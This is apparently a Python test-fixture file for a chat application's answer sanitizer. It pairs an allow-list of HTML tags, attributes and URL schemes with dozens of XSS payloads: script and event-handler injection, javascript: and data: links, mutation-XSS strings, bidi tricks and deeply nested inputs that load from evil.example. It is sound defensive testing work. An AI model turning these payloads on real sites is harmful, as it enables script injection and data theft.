"""Answers that try to run, to load, to lead astray or to hang; and what a shown answer may be made of.

Whatever runs sets `window.__ran`. Whatever loads asks `evil.example`.
"""

LONGEST = 100_000  # characters of an answer

# --- What may be shown ------------------------------------------------------------------------------------------------

TAGS = {
    *("p", "br", "hr", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "strong", "em", "b", "i", "u", "s", "del"),
    *("a", "code", "pre", "span", "table", "thead", "tbody", "tr", "th", "td"),
    *("aside", "details", "summary", "kbd", "mark", "sub", "sup"),
    *("math", "menclose", "mfrac", "mi", "mn", "mo", "mover", "mphantom", "mpadded", "mroot", "mrow", "mspace"),
    *("msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover"),
}
DIRECTED = ("p", "h4", "h5", "h6", "ul", "ol", "blockquote", "table", "td", "th")
ATTRIBUTES = {
    **{tag: {"dir"} for tag in DIRECTED},
    "a": {"href", "title", "rel", "target"},
    "aside": {"class", "id"},
    "code": {"class"},
    "ol": {"start", "dir"},
    "span": {"class"},
    "td": {"class", "dir"},
    "th": {"class", "dir"},
    "math": {"alttext", "display"},
    "menclose": {"notation"},
    "mfrac": {"displaystyle", "linethickness"},
    "mi": {"mathvariant"},
    "mo": {"form", "lspace", "maxsize", "minsize", "rspace", "stretchy", "symmetric"},
    "mover": {"accent"},
    "mpadded": {"depth", "height", "lspace", "voffset", "width"},
    "mrow": {"displaystyle", "scriptlevel"},
    "mspace": {"width"},
    "mstyle": {"displaystyle", "scriptlevel"},
    "mtable": {"displaystyle", "scriptlevel"},
    "mtd": {"class"},
    "munder": {"accentunder"},
}
SCHEMES = {"http", "https", "mailto"}
CLASSES = (
    r"language-\S+|[a-z][a-z0-9]{0,2}|task|footnote(?:-label)?|formula(?:-source)?|(?:cell|math)-(?:left|center|right)"
)
"""The second kind is Pygments'."""

# --- What is tried ----------------------------------------------------------------------------------------------------

HTML = {
    "script": "<script>window.__ran=1</script>",
    "script from elsewhere": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script in pieces": "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "script of a module": "<script type=module>import 'https://evil.example/x.js'</script>",
    "image that fails": "<img src=x onerror=window.__ran=1>",
    "image with quotes": "<img src=\"x\" onerror='window.__ran=1'>",
    "handler without a space": "<svg/onload=window.__ran=1>",
    "handler on a paragraph": "<p onmouseover=window.__ran=1 tabindex=0 onfocus=window.__ran=1 autofocus>x</p>",
    "details": "<details open ontoggle=window.__ran=1><summary>x</summary></details>",
    "svg": "<svg><script>window.__ran=1</script><use href='data:image/svg+xml,x#y'/><animate onbegin=window.__ran=1>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:window.__ran=1>x</maction></math>",
    "iframe": "<iframe src=javascript:parent.__ran=1></iframe><iframe src=https://evil.example/></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "object": "<object data=https://evil.example/></object><embed src=https://evil.example/><applet code=x>",
    "media": "<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=x onerror=window.__ran=1>",
    "style": "<style>body{display:none;background:url(https://evil.example/)}</style>",
    "style of its own": '<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>',
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "form": "<form action=https://evil.example/><input name=password autofocus onfocus=window.__ran=1><button>x</button>",
    "button of our form": "<button form=composer formaction=https://evil.example/ name=instead value=x>x</button>",
    "template": "<template><script>window.__ran=1</script></template><slot onslotchange=window.__ran=1></slot>",
    "comment": "<!-- <script>window.__ran=1</script> --><!--><img src=x onerror=window.__ran=1>-->",
    "cdata": "<![CDATA[<script>window.__ran=1</script>]]><?xml version='1.0'?><!DOCTYPE html>",
    "end of everything": "</p></div></article></main></body></html><script>window.__ran=1</script>",
    "end of the words": '</script><script>window.__ran=1</script>{"copy": "x"}',
    "textarea": "<textarea></textarea><title></title><xmp><script>window.__ran=1</script></xmp><plaintext>",
    "entities": "&lt;script&gt;window.__ran=1&lt;/script&gt; &#60;img src=x onerror=window.__ran=1&#62;",
    "names of the page": "<img name=body><a id=composer name=cookie href=x>x</a><form id=turns name=getElementById>",
    "mutation: noscript": "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>",
    "mutation: mglyph": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.__ran=1>",
    "mutation: form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__ran=1>",
    "mutation: svg title": "<svg></p><style><a id='</style><img src=x onerror=window.__ran=1>'>",
    "mutation: select": "<select><option><style></option></select><img src=x onerror=window.__ran=1></style>",
    "template language": "{{ request.user.email }} {% include 'base.html' %} {# x #} ${window.__ran=1} <%= 1 %> {{7*7}}",
    "htmx": '<a hx-get="https://evil.example/" hx-trigger=load hx-on:click="window.__ran=1" data-hx-get="/x/">x</a>',
    "htmx in our words": '<div hx-swap-oob=true id=dialog-content hx-vals="js:{a:window.__ran=1}">x</div>',
    "our attributes": "<b data-copy-answer data-turn=x data-answer data-composer data-text data-close data-menu>x</b>",
    "our turn": '<article class=turn data-turn="1" data-status="streaming"><div data-question>x</div></article>',
}
LINKS = {
    f"link: {address[:30]!r}": f"[x]({address})"
    for address in (
        "javascript:window.__ran=1",
        "JaVaScRiPt:window.__ran=1",
        " javascript:window.__ran=1",
        "java\tscript:window.__ran=1",
        "<java\tscript:window.__ran=1>",
        "javascript\n:window.__ran=1",
        "\x01javascript:window.__ran=1",
        "&#106;avascript:window.__ran=1",
        "javascript&colon;window.__ran=1",
        "java&Tab;script&NewLine;:window.__ran=1",
        "%6aavascript:window.__ran=1",
        "javascript%3Awindow.__ran=1",
        "https\\://x javascript:window.__ran=1",
        "view-source:javascript:window.__ran=1",
        "vbscript:msgbox(1)",
        "data:text/html,<script>window.__ran=1</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
        "DATA:image/svg+xml,<svg onload=window.__ran=1>",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
        "intent://scan/#Intent;end",
        "tel:911",
        "https:",
        "https://[",
        "http:javascript:window.__ran=1",
        "https://evil.example/\" onmouseover=\"window.__ran=1",
        "https://evil.example/ 'title\" onclick=\"window.__ran=1'",
        "https://evil.example/ \"&quot; onclick=window.__ran=1 \"",
        "https://ana@evil.example:80\\@localhost/",
    )
} | {
    "link by reference": "[x][r] [r] [r][]\n\n[r]: javascript:window.__ran=1\n[r2]: data:text/html,x 'title'",
    "link by itself": "<javascript:window.__ran=1> <data:text/html,x> <https://evil.example/?\"onclick=window.__ran=1>",
    "link in a link": "[a [b](javascript:window.__ran=1) c](https://evil.example/) [[x](javascript:y)](javascript:z)",
    "link with html": "[<img src=x onerror=window.__ran=1>](https://evil.example/) [</a><script>window.__ran=1</script>](x)",
    "link in a heading": "# [x](javascript:window.__ran=1) <img src=x onerror=window.__ran=1>",
    "link in a table": "| [x](javascript:window.__ran=1) | <img src=x onerror=window.__ran=1> |\n|---|---|\n| <b>x</b> | `|` |",
    "bare address": "https://evil.example/\"onmouseover=window.__ran=1 http://<img> https://x](javascript:y)",
}  # fmt: skip
IMAGES = {
    "image": "![x](https://evil.example/pixel.png)",
    "image with a title": '![x](https://evil.example/pixel.png "x\\" onerror=window.__ran=1")',
    "image by reference": "![x][p] ![p] ![p][]\n\n[p]: https://evil.example/pixel.png",
    "image in a link": "[![x](https://evil.example/pixel.png)](https://evil.example/)",
    "image without a scheme": "![x](//evil.example/pixel.png) ![x](\\\\evil.example/x) ![x](/\\evil.example/x)",
    "image of data": "![x](data:image/svg+xml,<svg/onload=window.__ran=1>) ![x](javascript:window.__ran=1)",
    "image of odd schemes": "![x](HTTPS://evil.example/x) ![x](https:evil.example/x) ![x](ftp://evil.example/x)",
    "image in html": "<img src=https://evil.example/x srcset='https://evil.example/y 2x'><picture><source srcset=x></picture>",
    "image in a table": "| ![x](https://evil.example/pixel.png) |\n|-|\n| ![x](https://evil.example/pixel.png) |",
    "image in a text of an image": "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "image nobody closed": "![x](https://evil.example/pixel.png",
}
CODE = {
    "end of the code": "```\n</code></pre><script>window.__ran=1</script>\n```",
    "end of coloured code": "```html\n</code></pre><img src=x onerror=window.__ran=1>\n```",
    "language of html": '```"><script>window.__ran=1</script>\nx\n```',
    "language of a handler": '```js" onclick="window.__ran=1\nx\n```',
    "diagram": "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\n  A[<script>window.__ran=1</script>] --> B\n  click A call eval(1)\n```",
    "language of many words": "```turn code-copy data-copy-code\nx\n```\n\n```a&#32;turn&#12;code\nx\n```\n\n~~~a\x0bturn\nx\n~~~",
    "code in a line": "`</code><script>window.__ran=1</script>` ``<img src=x onerror=window.__ran=1>``",
    "code by indent": "    <script>window.__ran=1</script>\n\n\t<img src=x onerror=window.__ran=1>",
    "formula": "$$\n\\href{javascript:window.__ran=1}{x}\n$$\n\n\\[\n<img src=x onerror=window.__ran=1>\n\\] $x$",
    "check boxes": "- [x] <input onfocus=window.__ran=1 autofocus>\n- [ ] [x](javascript:window.__ran=1)",
    "code nobody closed": "```html\n<script>window.__ran=1</script>",
}
SIGNS = {
    "right to left": "uno \u202e dos \u202c tres [x\u202e](https://evil.example/\u202egpj.exe) `a\u202eb` \u202e",
    "isolates": "\u2066 a \u2067 b \u2068 c `\u2067 x` **\u2066d** # \u2069\u2069\u2069\u2069",
    "trojan source": "```python\nis_admin = False  # \u202e\u2066 if is_admin\u2069 \u2066 begin\n```",
    "zero width": "java\u200bscript:x <scr\u200dipt> [\ufeffx](java\u200bscript:window.__ran=1) \u2060\u00ad\u200e\u200f",
    "control characters": "<scr\x01ipt>\x02\x07\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029<img\x0bsrc=x\x0conerror=window.__ran=1>",
    "nul": "<scr\0ipt>window.__ran=1</scr\0ipt> [x](java\0script:window.__ran=1) \0",
    "lone and rare signs": "\ufffd\ufffe\uffff\ud7ff\ue000\U0010ffff\U000e0001\U000e0041 ﷽ e" + "\u0301" * 50,
}
NESTED = {
    "quotes, 500 deep": ">" * 500 + " x",
    "quotes with spaces, 500 deep": "> " * 500 + "<img src=x onerror=window.__ran=1>",
    "lists, 300 deep": "\n".join(" " * 2 * depth + "- x" for depth in range(300)),
    "lists of numbers, 100 deep": "\n".join(" " * 3 * depth + f"{depth}. x" for depth in range(100)),
    "quotes and lists": "> - " * 200 + "x\n" + "- > 1. " * 100 + "[x](javascript:window.__ran=1)",
    "emphasis, 500 deep": "*a **b " * 500 + "***" * 500,
    "all kinds of emphasis": "".join(("*a", "_b", "**c", "__d", "~~e", "[f")[depth % 6] for depth in range(500)),
    "links, 500 deep": "[" * 500 + "x" + "](https://evil.example/)" * 500,
    "images, 500 deep": "![" * 500 + "x" + "](https://evil.example/x.png)" * 500,
    "a wide table": "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + "|x" * 200 + "\n|y\n",
    "a table in a quote in a list": "- > | a |\n  > |---|\n  > | <script>window.__ran=1</script> |",
}
CASES = HTML | LINKS | IMAGES | CODE | SIGNS | NESTED

# --- What takes long --------------------------------------------------------------------------------------------------

LONG = {
    repr(piece): (piece * LONGEST)[:LONGEST]
    for piece in (
        *(">", "> ", "- ", "+ ", "1. ", "1", "*\n", "# a\n", "- a\n  ", "[", "![", "[a](", "[a](b)", "](", "*", "**a"),
        *(
            "*a_ ",
            "***a",
            "_",
            "~~a",
            "`",
            "`a``",
            "```",
            "```\n",
            "``` ",
            "~~~\n",
            "<",
            "<br ",
            "<!--",
            "&a",
            "\\",
            "\\[",
        ),
        *(
            "$",
            "|",
            "|a",
            "|a|\n|-",
            "a\n|",
            "\n",
            " ",
            "\t",
            "a",
            "http://a",
            "http://a ",
            "[x]: y\n",
            "\u202e",
            "👩‍👩‍👧",
        ),
        *(
            "$$\n",
            "$$ ",
            "$a$",
            "$\\frac",
            "\\[\n",
            "\\(",
            "\\( x^{",
            "<kbd>",
            "<details>\n",
            "<details>\n\n",
            "[^1]: x\n",
        ),
        *(
            "[^a] ",
            "[^1]: [^1]\n\n",
            "[x]\n\n[x]: y\n\n",
            "www.",
            "a@",
            "a@b.",
            "- [x] ",
            "# a\n\n## b\n\n",
            "א\n\n",
            "\r",
        ),
    )
}


def spread(text: str) -> list[str]:
    """Return the pieces a random mix is made of: words of the cases, and what separates them."""
    return [*text.split(" "), "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", "`", "```", "|", "](", "[", "*", "**", "~~"]
